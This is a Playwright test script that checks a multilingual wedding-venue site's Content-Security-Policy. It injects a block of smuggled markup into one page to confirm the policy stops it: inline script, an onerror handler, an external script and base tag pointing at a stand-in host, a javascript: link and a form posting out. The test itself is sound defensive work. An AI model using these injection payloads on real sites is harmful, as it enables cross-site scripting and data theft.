// node csp.mjs BASE_URL CHROMIUM: every kind of page in three languages under the policy that it is
// sent with, and what happens to markup that somebody smuggled in. Prints one JSON document.
import { withBrowser } from "./browser.mjs";

const [base, chromium] = process.argv.slice(2);
const LANGUAGES = ["en", "si", "ta"];
const PATHS = [
  "/", "/about", "/venues", "/venues?district=kandy", "/venues/1", "/vendors", "/vendors/photography",
  "/search", "/search?q=beach", "/compare", "/compare?venue=1&venue=2", "/not-there",
];
const SMUGGLED = `<script>window.ran = "script";</script>
<img src="/not-there.png" onerror="window.ran = 'handler'"><style>body { --smuggled: 1 }</style>
<script src="https://elsewhere.example/x.js"></script><base href="https://elsewhere.example/">
<a id="smuggled" href="javascript:window.ran='link'">x</a>
<form id="leak" action="https://elsewhere.example/"><input name="a"></form>`;
const report = { pages: [], violations: [], errors: [], inert: [], smuggled: {} };
const watch = () => {
  window.seen = [];
  document.addEventListener("securitypolicyviolation", (event) => window.seen.push(`${event.effectiveDirective} ${event.blockedURI}`));
};

await withBrowser(chromium, async (browser) => {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
  await context.addInitScript(watch);
  const page = await context.newPage();
  page.on("pageerror", (error) => report.errors.push(`${page.url()}: ${error}`));
  page.on("console", (message) => {
    // A page that is not there says so on the console, too; that is what was asked for.
    if (["error", "warning"].includes(message.type()) && !/status of 404/.test(message.text())) report.errors.push(`${page.url()}: ${message.text()}`);
  });
  await page.goto(`${base}/en/vendors/photography`);
  const vendor = new URL(await page.locator('a[href^="/en/vendors/photography/"]').first().getAttribute("href"), base).pathname.replace("/en", "");
  for (const language of LANGUAGES) for (const path of [...PATHS, vendor]) {
    const response = await page.goto(`${base}/${language}${path}`, { waitUntil: "load" });
    report.pages.push({ path: `/${language}${path}`, status: response.status(), csp: (await response.allHeaders())["content-security-policy"] ?? "" });
    const state = await page.evaluate(() => ({
      seen: window.seen,
      isLive: document.documentElement.classList.contains("js") && document.styleSheets.length === 1,
      suggests: Boolean(document.querySelector("#nav-q-list")),
    }));
    report.violations.push(...state.seen.map((text) => `${page.url()}: ${text}`));
    if (!state.isLive || !state.suggests) report.inert.push(page.url());
  }
  // A page of the gateway's own, whose style is inline.
  const refused = await page.goto(`${base}/_poruwa/not-there`, { waitUntil: "load" });
  report.gateway = { status: refused.status(), csp: (await refused.allHeaders())["content-security-policy"] ?? "", ...await page.evaluate(() => ({
    seen: window.seen, display: getComputedStyle(document.body).display,
  })) };
  // What a script of the page does: filters in place, comparison, suggestions.
  await page.goto(`${base}/en/venues`);
  const count = () => page.locator("[data-count]").innerText();
  const before = await count();
  await page.locator("#filters [name=style][value=garden]").check();
  await page.waitForFunction((text) => document.querySelector("[data-count]").textContent !== text, before);
  await page.locator("[data-compare]").first().check();
  await page.locator("#nav-q").pressSequentially("gard", { delay: 20 });
  await page.waitForFunction(() => document.querySelectorAll("#nav-q-list option").length > 0);
  report.violations.push(...await page.evaluate(() => window.seen));
  await context.close();

  // The page as it is kept, header and all, with something in it that is not the site's.
  const attacked = await browser.newContext();
  await attacked.addInitScript(watch);
  await attacked.route(/\/en\/venues\/1$/, async (route) => {
    const response = await route.fetch();
    report.smuggled.cacheStatus = response.headers()["cache-status"] ?? "";
    const body = (await response.text()).replace("<main", `${SMUGGLED}<main`);
    await route.fulfill({ response, body });
  });
  const victim = await attacked.newPage();
  await victim.goto(`${base}/en/venues/1`, { waitUntil: "load" });
  await victim.locator("#smuggled").click();
  await victim.evaluate(() => document.querySelector("#leak").submit());
  await victim.waitForTimeout(300);
  report.smuggled.ran = await victim.evaluate(() => window.ran ?? null);
  report.smuggled.style = await victim.evaluate(() => getComputedStyle(document.body).getPropertyValue("--smuggled"));
  report.smuggled.base = await victim.evaluate(() => document.baseURI);
  report.smuggled.isLive = await victim.evaluate(() => document.documentElement.classList.contains("js"));
  report.smuggled.seen = await victim.evaluate(() => window.seen);
  // A script of the site's that made markup from text, or a policy of its own, would be stopped.
  const attempt = (code) => victim.evaluate(code).then(() => "done", (error) => String(error).split("\n")[0]);
  report.smuggled.markup = await attempt(() => { document.body.innerHTML = "<img src=x onerror=1>"; });
  report.smuggled.ownPolicy = await attempt(() => { window.trustedTypes.createPolicy("mine", { createHTML: (text) => text }); });
  await attacked.close();
});
console.log(JSON.stringify(report));
